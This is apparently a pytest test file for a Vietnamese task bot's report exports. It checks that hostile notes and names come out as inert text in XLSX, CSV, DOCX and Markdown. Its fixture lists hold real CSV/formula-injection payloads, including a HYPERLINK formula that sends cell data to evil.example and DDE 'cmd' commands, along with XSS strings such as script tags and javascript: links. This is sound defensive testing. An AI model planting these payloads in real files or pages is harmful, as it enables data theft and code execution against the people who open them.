"""Hostile text in notes and names reaches every export as inert text: no formula in a spreadsheet,
no character that breaks a Word or Excel file, no HTML or link in Markdown.

The rows are written straight into the database (SQLite and PostgreSQL), as rows stored before the
input was cleaned would be, and exported the way `/xuat` and `nhacviec report` export them.
"""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import datetime as dt
import io
import zipfile

import docx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli import main
from bot.render.exports import export_summary, render_summary
from storage.db import Database
from storage.models.plan import LEAD, Plan, Task, TaskAgency
from storage.plans.importer import import_plan_file
from tests.bot.render.conftest import HANOI, JUNE_2021, TODAY, at
from tests.conftest import SAMPLE_PLAN
from tests.factories import make_member, make_update
from tests.faults.exports import check_all_formats, hostile_text, plant

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EVIL_NAME = '=HYPERLINK("http://evil.example/","Lan")'
# What XML 1.0 refuses, and the other non-characters; each one used to break every DOCX and XLSX.
XML_INVALID = ["\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff", "\x01", "\x0b", "\x1b", "\x7f"]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "[Bấm vào đây](javascript:alert(1))",
    "<javascript:alert(1)>",
    '![ảnh](javascript:alert(1) "x")',
    "<a href='javascript:alert(1)'>xem</a>",
]


async def _sample_with(db, notes: list[str], *, member_name: str) -> list[Task]:
    """The sample plan with one update per note, on successive tasks, by a member called `member_name`."""
    async with db.transaction() as session:
        report = await import_plan_file(session, SAMPLE_PLAN)
        tasks = list(
            (
                await session.scalars(select(Task).where(Task.plan_id == report.plan_id).order_by(Task.id))
            ).all()
        )
        leads = {
            link.task_id: link.agency
            for link in (await session.scalars(select(TaskAgency).where(TaskAgency.role == LEAD))).all()
        }
        tasks = [task for task in tasks if task.id in leads][: len(notes)]
        member = await make_member(session, member_name, agency=leads[tasks[0].id])
        for task, note in zip(tasks, notes, strict=True):
            await make_update(
                session,
                task,
                agency=leads[task.id],
                cycle=JUNE_2021,
                at=at(dt.date(2021, 6, 2)),
                member=member,
                note=note,
            )
    return tasks


async def _export(db, fmt: str, language: str = "vi"):
    async with db.snapshot() as session:
        plan_id = (await session.scalars(select(Task.plan_id))).first()
        return await export_summary(session, plan_id, fmt, cycle=JUNE_2021, today=TODAY, language=language)


# ---------------------------------------------------------------- formulas


async def test_notes_and_names_that_look_like_formulas_are_plain_text_in_the_workbook(db):
    await _sample_with(db, FORMULAS, member_name=EVIL_NAME)

    document = await _export(db, "xlsx")

    workbook = load_workbook(io.BytesIO(document.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(FORMULAS) <= texts
    assert EVIL_NAME in texts
    sheet_xml = zipfile.ZipFile(io.BytesIO(document.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


async def test_notes_and_names_that_look_like_formulas_get_an_apostrophe_in_the_csv(db):
    await _sample_with(db, FORMULAS, member_name=EVIL_NAME)

    document = await _export(db, "csv")

    rows = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"), newline="")))
    note_column, name_column = rows[0].index("Ghi chú"), rows[0].index("Người cập nhật")
    # A co-led task's note cell also says where each lead stands; the planted notes come first in it.
    notes = [row[note_column].split("\n")[0] for row in rows[1:] if row[note_column]]
    expected = ["'" + note for note in FORMULAS]
    assert [note for note in notes if note[1:] in FORMULAS] == expected
    assert {row[name_column] for row in rows[1:] if row[name_column]} == {"'" + EVIL_NAME}
    starts = [cell[:1] for row in rows[1:] for cell in row if cell]
    assert not [start for start in starts if start in ("=", "+", "-", "@", "\t", "\r")]


# ---------------------------------------------------------------- characters XML refuses


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
async def test_rows_stored_with_characters_xml_refuses_still_give_a_report(db, fmt):
    notes = [f"Đã xong{bad}phần 1" for bad in XML_INVALID]
    await _sample_with(db, notes, member_name="Lan\ufffe\x1b")

    document = await _export(db, fmt)

    if fmt == "docx":
        opened = docx.Document(io.BytesIO(document.content))
        # The appendix table: one row per task, the note in its result cell.
        text = "\n".join(row.cells[-1].text for row in opened.tables[-1].rows)
    else:
        workbook = load_workbook(io.BytesIO(document.content))
        text = "\n".join(str(c.value) for s in workbook.worksheets for r in s.iter_rows() for c in r)
    assert text.count("Đã xongphần 1") == len(XML_INVALID)
    assert "Lan" in text
    assert not any(bad in text for bad in XML_INVALID)


async def test_a_lone_surrogate_in_a_note_does_not_break_any_format(sample):
    # No database stores a lone surrogate (they are not UTF-8), but one can arrive from a webhook's JSON
    # ("\\ud800") and be held by a report model; every writer drops it.
    sample.summary.tasks[0].latest.note = "trước\ud800sau\udfff"
    sample.summary.tasks[0].latest.member_name = "Lan\udc00"

    for fmt in ("docx", "xlsx", "csv", "md"):
        document = render_summary(sample.summary, fmt, language="vi", tz=HANOI)
        if fmt == "docx":
            docx.Document(io.BytesIO(document.content))
        elif fmt == "xlsx":
            load_workbook(io.BytesIO(document.content))
        text = document.content.decode("utf-8-sig") if fmt in ("csv", "md") else ""
        if text:
            assert "trướcsau" in text


# ---------------------------------------------------------------- Markdown


async def test_markdown_shows_html_and_links_as_the_text_that_was_typed(db):
    await _sample_with(db, MARKUP, member_name="<b onmouseover=alert(1)>Lan</b>")

    document = await _export(db, "md")

    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(document.content.decode("utf-8"))
    assert "<script" not in html
    assert "<img" not in html
    assert "<a " not in html
    assert "<b " not in html
    assert 'href="' not in html  # no link at all: the one typed is text
    # The reader sees exactly what was typed, as text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[Bấm vào đây](javascript:alert(1))" in html
    assert "&lt;b onmouseover=alert(1)&gt;Lan&lt;/b&gt;" in html


# ---------------------------------------------------------------- the command line


@pytest.fixture
def cli_database(tmp_path, monkeypatch, capsys) -> tuple[str, Database]:
    for name in ("NHACVIEC_CONFIG", "NHACVIEC_DATABASE_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)
    url = f"sqlite+aiosqlite:///{tmp_path / 'nhacviec.db'}"
    assert main(["--db", url, "db", "upgrade"]) == 0
    capsys.readouterr()
    return url


async def _fill_cli_database(url: str) -> None:
    db = Database(url)
    try:
        await _sample_with(db, [*FORMULAS, *(f"x{bad}y" for bad in XML_INVALID)], member_name=EVIL_NAME)
    finally:
        await db.dispose()


@pytest.mark.parametrize("fmt", ["docx", "xlsx", "csv", "md"])
def test_the_cli_report_writes_hostile_rows_as_inert_text(cli_database, tmp_path, capsys, fmt):
    asyncio.run(_fill_cli_database(cli_database))
    target = tmp_path / f"report.{fmt}"

    code = main(["--db", cli_database, "report", "--cycle", "2021-06-15", "--format", fmt, "-o", str(target)])

    assert code == 0, capsys.readouterr().err
    content = target.read_bytes()
    if fmt == "docx":
        docx.Document(io.BytesIO(content))
    elif fmt == "xlsx":
        workbook = load_workbook(io.BytesIO(content))
        formulas = [c for s in workbook.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
        assert formulas == []
    elif fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if fmt in ("csv", "md"):
        text = content.decode("utf-8-sig")
        assert text.count("xy") == len(XML_INVALID)
        assert not any(bad in text for bad in XML_INVALID)


# ---------------------------------------------------------------- fuzzed


async def test_any_hostile_text_in_notes_names_and_agencies_gives_files_that_open_as_text(sample):
    # A few examples here; bench/bench_fuzz.py runs hundreds.
    found: list[str] = []

    @settings(max_examples=12, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(hostile_text, min_size=1, max_size=3), hostile_text, hostile_text)
    def every_format(notes, name, agency_name):
        plant(sample.summary, notes, name, agency_name)
        found.extend(check_all_formats(sample.summary))

    every_format()

    assert found == []


async def test_a_plan_number_and_title_stored_with_characters_xml_refuses_still_give_a_letter(db):
    await _sample_with(db, ["Đã xong"], member_name="Lan")
    async with db.transaction() as session:
        plan = await session.get(Plan, (await session.scalars(select(Task.plan_id))).first())
        plan.number = "12\x1b/KH-UBND"
        plan.title = "Chuyển đổi\ufffe số"

    document = await _export(db, "docx")

    text = "\n".join(p.text for p in docx.Document(io.BytesIO(document.content)).paragraphs)
    assert "12/KH-UBND" in text
    assert not any(bad in text for bad in XML_INVALID)


async def test_an_agency_name_with_dollar_signs_is_drawn_as_typed_in_the_chart(sample):
    # Matplotlib reads the text between two "$" as a formula; an unknown command in it broke the chart.
    agency = sample.summary.expected_agencies[0]
    agency.name = agency.short_name = r"Sở $\foo{$ Lam Sơn"
    sample.summary.plan = dataclasses.replace(sample.summary.plan, number=r"12$\bar$")

    assert check_all_formats(sample.summary) == []
